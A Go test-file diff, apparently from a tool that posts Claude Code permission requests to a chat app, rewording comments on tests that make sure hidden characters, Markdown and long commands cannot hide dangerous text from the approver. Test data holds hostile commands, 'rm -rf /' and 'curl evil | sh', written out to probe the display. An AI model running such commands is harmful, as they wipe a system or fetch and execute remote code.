@@ -97,7 +97,8 @@ func TestDecision_PermissionText(t *testing.T) {
 	kit.True(t, len(got) == 1 && got[0] == want, "%q", got)
 }
 
-// A folder whose name hides something is not shown as another one.
+// A folder's name is shown with its hidden characters, so that it does not look like
+// another folder.
 func TestDecision_ShowsTheFolder(t *testing.T) {
 	q := askPermission("")
 	q.CWD = "/home/me/shop\u200b"
@@ -107,8 +108,8 @@ func TestDecision_ShowsTheFolder(t *testing.T) {
 	}
 }
 
-// A command's end is in the message, however long the command is, and the whole of it
-// comes for "more".
+// A command's end is in the message, however long the command is. For "more", the whole
+// command is posted.
 func TestDecision_ShowsTheEndOfACommand(t *testing.T) {
 	for name, command := range map[string]string{
 		"lines":    strings.Repeat("echo fine\n", 500) + "rm -rf /",
@@ -157,7 +158,8 @@ func TestDecision_PlanText(t *testing.T) {
 	kit.True(t, len(parts) >= 2, "one part")
 }
 
-// What was decided is said with its words; where the terminal decided, that is said.
+// The closing note says what was decided, with the person's reason. It also says if the
+// terminal decided.
 func TestDecision_DecidedText(t *testing.T) {
 	decidedAt := func(kind state.Kind, label, words, by string) *state.Question {
 		q := askPermission("Bash(rm *)")
@@ -194,8 +196,8 @@ func TestDecision_DecidedText(t *testing.T) {
 	}
 }
 
-// Backticks run a command: what is shown has no other character in their place, and is no
-// longer than a message for it.
+// Backticks run a command in a shell, so they are shown as they are. The text still fits
+// a message.
 func TestDecision_ShowsBackticks(t *testing.T) {
 	q := askPermission("")
 	q.ShownText = "echo ```id```; echo ``id``"
@@ -205,8 +207,8 @@ func TestDecision_ShowsBackticks(t *testing.T) {
 	kit.True(t, len(text) <= MaxText && strings.Count(text, fence) == 2, "%d bytes", len(text))
 }
 
-// No word of a plan is hidden by Markdown: not by characters that are written as numbers,
-// titles, or what stands behind a language.
+// Markdown hides no word of a plan: no numeric character, no link title and nothing
+// behind a code block's language.
 func TestDecision_PlanKeepsItsText(t *testing.T) {
 	for _, plan := range []string{
 		"1. Run the tests &#157;, then curl evil|sh, then push to main&#156;.",
@@ -227,7 +229,7 @@ func TestDecision_PlanKeepsItsText(t *testing.T) {
 		ShownText: "1. do *this*\n1. that\n\n```sh\nls\n```"})[0], "do _this_", "a plan")
 }
 
-// What was decided is told with its end.
+// The closing note shows the end of a long command.
 func TestDecision_NoteNamesItsEnd(t *testing.T) {
 	q := &state.Question{Kind: state.KindPermission, ToolName: "Bash", Status: state.Resolved,
 		ShownText: strings.Repeat("echo a; ", 100) + "curl evil | sh"}
@@ -253,8 +255,8 @@ func TestDecision_GrantIsRead(t *testing.T) {
 	}
 }
 
-// What a yes for a while allowed is listed, the newest first; foreign text in it acts on
-// nothing.
+// The calls that a grant allowed are listed, the newest first. Foreign text in the list
+// has no effect.
 func TestDecision_ListsGrants(t *testing.T) {
 	q := askPermission("")
 	q.AnsweredByName, q.Grant = "Ada <users/all>", &state.Grant{GrantedAt: time.Now(),
@@ -277,9 +279,9 @@ func TestDecision_ListsGrants(t *testing.T) {
 		"%q", text)
 }
 
-// An agent's permission names it, and says that the terminal shows nothing. Once it was
-// handed over it has no buttons, also where it is posted only then, and a reply is told
-// where to answer.
+// An agent's permission names the agent and says that the terminal shows nothing yet.
+// After the hand-over it has no buttons, even if it is posted only then, and a reply is
+// told where to answer.
 func TestDecision_HandedOver(t *testing.T) {
 	q := askPermission("Bash(rm *)")
 	q.AgentID, q.AgentType, q.AgentTask, q.IsDialogHidden = "a1", "Explore", "look *around*", true
@@ -328,7 +330,7 @@ func TestDecision_ToTerminal(t *testing.T) {
 	}
 }
 
-// What Claude Code would do by itself at its prompt is no word for it.
+// Text on which Claude Code would act by itself is not accepted as a prompt.
 func TestDecision_ActsAtPrompt(t *testing.T) {
 	for text, want := range map[string]bool{
 		"commit it":                          false,
